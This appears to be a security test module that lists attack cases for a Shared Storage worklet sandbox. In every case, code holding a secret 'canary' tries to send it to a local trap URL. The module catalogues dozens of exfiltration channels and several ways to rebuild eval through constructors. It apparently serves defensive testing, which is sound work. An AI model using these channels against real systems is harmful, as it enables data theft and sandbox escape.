// Worklets of the victim's own origin, which have the canary, and try to send it anywhere.

/** Ways to run code that a realm may have left open, each around the code. @type {((code: string) => string)[]} */
const WAYS = [
  (code) => code,
  (code) => `(0, eval)(${JSON.stringify(code)}.replaceAll('U', JSON.stringify(U)))`,
  (code) => `Function('U', 'return ' + ${JSON.stringify(code)})(U)`,
  (code) => `(async () => {}).constructor('U', 'return ' + ${JSON.stringify(code)})(U)`,
  (code) => `[...(function* () {}).constructor('U', 'yield ' + ${JSON.stringify(code)})(U)][0]`,
  (code) => `(async function* () {}).constructor('U', 'yield ' + ${JSON.stringify(code)})(U).next()`,
  (code) => `globalThis.constructor.constructor('U', 'return ' + ${JSON.stringify(code)})(U)`,
  (code) => `Reflect.construct(Function, ['U', 'return globalThis.' + ${JSON.stringify(code)}])(U)`,
];

/**
 * A worklet that reads the canary and makes these attempts. Rounds to the storage and back are the only clock that it has.
 * @param {readonly string[]} attempts in which U is a URL of the trap that has the canary
 */
const sending = (attempts) => `
  register('attack', class {
    async run() {
      const canary = await sharedStorage.get('canary');
      const attempts = ${JSON.stringify(attempts)};
      const outcomes = [];
      for (let index = 0; index < attempts.length; index++) {
        const U = STAGE.trap + index + '/' + canary;
        try {
          const result = eval(attempts[index]);
          Promise.resolve(result).then(() => outcomes.push('done'), () => outcomes.push('rejected'));
        } catch { outcomes.push('threw'); }
      }
      for (let round = 0; round < 60; round++) await sharedStorage.length();
      tried(attempts.length);
      return 0;
    }
  });`;

const PAGE = `kit.listenEverywhere(); kit.got(await kit.run());`;

/** @type {[name: string, what: string, attempts: string[]][]} */
const DIRECT = [
  ['fetch', 'fetch()', ['fetch(U)', 'fetch(U, { mode: "no-cors", keepalive: true })', 'fetch(new Request(U))', 'fetchLater(U)']],
  [
    'xhr',
    'XMLHttpRequest',
    [
      '{ const x = new XMLHttpRequest(); x.open("GET", U); x.send(); }',
      '{ const x = new XMLHttpRequest(); x.open("POST", U, false); x.send(U); }',
    ],
  ],
  [
    'websocket',
    'WebSocket and WebSocketStream',
    ['new WebSocket(U.replace("http", "ws"))', 'new WebSocketStream(U.replace("http", "ws"))'],
  ],
  ['event-source', 'EventSource', ['new EventSource(U)']],
  [
    'web-transport',
    'WebTransport, and sockets',
    [
      'new WebTransport(U.replace("http:", "https:"))',
      'new TCPSocket("127.0.0.1", STAGE.trapPort)',
      'new UDPSocket({ remoteAddress: "127.0.0.1", remotePort: STAGE.trapPort })',
    ],
  ],
  [
    'rtc',
    'RTCPeerConnection',
    [
      '{ const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + STAGE.trapPort }] }); c.createDataChannel("c"); c.createOffer().then((o) => c.setLocalDescription(o)); }',
    ],
  ],
  [
    'import-scripts',
    'importScripts()',
    ['importScripts(U)', 'importScripts("data:text/javascript,importScripts(" + JSON.stringify(U) + ")")', 'importScripts("/" + U)'],
  ],
  [
    'workers',
    'workers of every kind',
    [
      'new Worker(U)',
      'new SharedWorker(U)',
      'new Worker("data:text/javascript,fetch(" + JSON.stringify(U) + ")")',
      'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(U) + ")"])))',
      'navigator.serviceWorker.register(U)',
    ],
  ],
  [
    'navigator',
    'the methods of navigator',
    [
      'navigator.sendBeacon(U, U)',
      'navigator.share({ url: U })',
      'navigator.registerProtocolHandler("web+x", U + "%s")',
      'navigator.clipboard.writeText(U)',
      'navigator.credentials.get({})',
      'navigator.storage.getDirectory().then((d) => d.getFileHandle(U, { create: true }))',
      'navigator.setAppBadge(1)',
      'navigator.usb.getDevices()',
      'navigator.permissions.query({ name: U })',
    ],
  ],
  [
    'location',
    'locations, windows and history',
    [
      'location.href = U',
      'location.assign(U)',
      'open(U)',
      'navigation.navigate(U)',
      'history.pushState(U, "", U)',
      'self.location = U',
      'top.location = U',
      'parent.location = U',
      'clients.openWindow(U)',
    ],
  ],
  [
    'report-error',
    'reportError() and errors that nobody catches',
    [
      'reportError(new Error(U))',
      'Promise.reject(new Error(U))',
      'queueMicrotask(() => { throw new Error(U); })',
      'setTimeout(() => { throw new Error(U); })',
      'dispatchEvent(new ErrorEvent("error", { message: U }))',
    ],
  ],
  [
    'caches',
    'caches and databases',
    [
      'caches.open(U).then((c) => c.add(U))',
      'indexedDB.open(U)',
      'localStorage.setItem("canary", U)',
      'cookieStore.set("canary", U)',
      'webkitRequestFileSystem(0, 1, () => {})',
      'document.cookie = U',
    ],
  ],
  [
    'channels',
    'channels and messages to whoever hears them',
    [
      'new BroadcastChannel("canary").postMessage(U)',
      'new MessageChannel().port1.postMessage(U)',
      'postMessage(U)',
      'postMessage(U, "*")',
      'parent.postMessage(U, "*")',
      'self.dispatchEvent(new MessageEvent("message", { data: U }))',
    ],
  ],
  [
    'import',
    'import() of every scheme',
    [
      'import(U)',
      'import(U.replace("http:", "https:"))',
      'import("//" + U.split("//")[1])',
      'import("/" + U)',
      'import(U, { with: { type: "json" } })',
      'import(U, { with: { type: "css" } })',
      'import("blob:" + U)',
      'import("ftp" + U.slice(4))',
      'import("filesystem:" + U)',
      'import("view-source:" + U)',
    ],
  ],
  [
    'import-data',
    'import() of data: URLs whose modules import and fetch further',
    [
      'import("data:text/javascript,import(" + JSON.stringify(U) + ")")',
      'import("data:text/javascript,import " + JSON.stringify(U))',
      'import("data:text/javascript,export * from " + JSON.stringify(U))',
      'import("data:text/javascript," + encodeURIComponent("fetch(" + JSON.stringify(U) + ")"))',
      'import("data:text/javascript,import x from " + JSON.stringify(U) + " with { type: \'json\' }")',
      'import("data:text/javascript,import source x from " + JSON.stringify(U))',
      'import("data:text/javascript,import.meta.resolve(" + JSON.stringify(U) + ")")',
    ],
  ],
  [
    'import-extension',
    "import() and fetch() of the extension's own files with the canary in the query",
    [
      'import(STAGE.extension + "/manifest.json?" + U, { with: { type: "json" } })',
      'import(STAGE.extension + "/service-worker.js?" + U)',
      'import(STAGE.extension + "/src/content/bridge.iife.js?" + U)',
      'fetch(STAGE.extension + "/manifest.json?" + U)',
      'import("/manifest.json?" + U)',
      'import("./realm.js?" + U)',
    ],
  ],
  [
    'wasm',
    'WebAssembly that is fetched, and what it imports',
    [
      'WebAssembly.compileStreaming(fetch(U))',
      'WebAssembly.instantiateStreaming(Promise.resolve(U))',
      'WebAssembly.compileStreaming({ url: U, then: undefined })',
      'WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]), { env: { fetch: globalThis.fetch } }).then(() => fetch(U))',
      'new WebAssembly.Module(new TextEncoder().encode(U))',
    ],
  ],
  [
    'images',
    'images, fonts, audio and styles',
    [
      'new Image().src = U',
      'new Audio(U)',
      'new FontFace("f", "url(" + U + ")").load()',
      'createImageBitmap(U)',
      'document.write("<img src=" + U + ">")',
      'new CSSStyleSheet().replace("@import " + JSON.stringify(U))',
      'new OffscreenCanvas(1, 1).getContext("2d")',
      'CSS.paintWorklet.addModule(U)',
      'sharedStorage.worklet.addModule(U)',
    ],
  ],
  [
    'source-maps',
    'source maps and source URLs',
    [
      '(0, eval)("1\\n//# sourceMappingURL=" + U)',
      '(0, eval)("1\\n//# sourceURL=" + U)',
      'new Function("//# sourceMappingURL=" + U + "\\n debugger")()',
      'import("data:text/javascript,1//%23 sourceMappingURL=" + U)',
    ],
  ],
  [
    'permissions',
    'timers, locks, notifications and other globals of workers',
    [
      'new Notification(U)',
      'navigator.locks.request(U, () => fetch(U))',
      'scheduler.postTask(() => fetch(U))',
      'new PerformanceObserver(() => {}).observe({ type: "mark" })',
      'performance.mark(U)',
      'performance.setResourceTimingBufferSize(1)',
      'structuredClone(U)',
      'trustedTypes.createPolicy(U, {})',
      'close()',
    ],
  ],
  [
    'api',
    'its own API: operations, worklets, selections and budgets',
    [
      'sharedStorage.selectURL("attack", [{ url: U }])',
      'sharedStorage.run(U)',
      'sharedStorage.createWorklet(U)',
      'register(U, class { run() {} })',
      'interestGroups()',
      'privateAggregation.contributeToHistogram({ bucket: 1n, value: 1, url: U })',
      'privateAggregation.contributeToHistogramOnEvent(U, { bucket: 1n, value: 1 })',
      'sharedStorage.remainingBudget(U)',
      'navigator.locks.query()',
    ],
  ],
];

const direct = DIRECT.map(([name, what, attempts]) => ({
  name: `worklet-${name}`,
  tries: `A worklet that has the canary sends it by ${what}.`,
  page: PAGE,
  module: sending(attempts),
}));

const CODE = [
  'fetch(U)',
  'import(U)',
  'new WebSocket(U.replace("http", "ws"))',
  'importScripts(U)',
  'new Worker(U)',
  'navigator.sendBeacon(U)',
];
const NAMES = ['plain', 'indirect-eval', 'function', 'async-function', 'generator', 'async-generator', 'global-constructor', 'construct'];

const constructed = WAYS.map((way, index) => ({
  name: `escape-${NAMES[index]}`,
  tries: `A worklet runs code that sends the canary in code that it makes as: ${way('CODE').replaceAll('"CODE"', 'CODE')}.`,
  page: PAGE,
  module: sending(CODE.map(way)),
}));

/** @type {import('../case.mjs').Attack[]} */
export default [
  ...direct,
  ...constructed,
  {
    name: 'worklet-while-loading',
    tries: 'A module asks for the canary while it is loaded, and sends what it gets.',
    page: PAGE,
    module: `
      const asked = ['get', 'length', 'entries', 'keys', 'remainingBudget'].map((name) => { try { return Promise.resolve(sharedStorage[name]('canary')); } catch (error) { return Promise.reject(error); } });
      const outcomes = asked.map((one) => one.then((value) => { try { fetch(STAGE.trap + value); } catch {} throw new Error(value); }, () => {}));
      register('attack', class { async run() { tried(outcomes.length); } });`,
  },
];
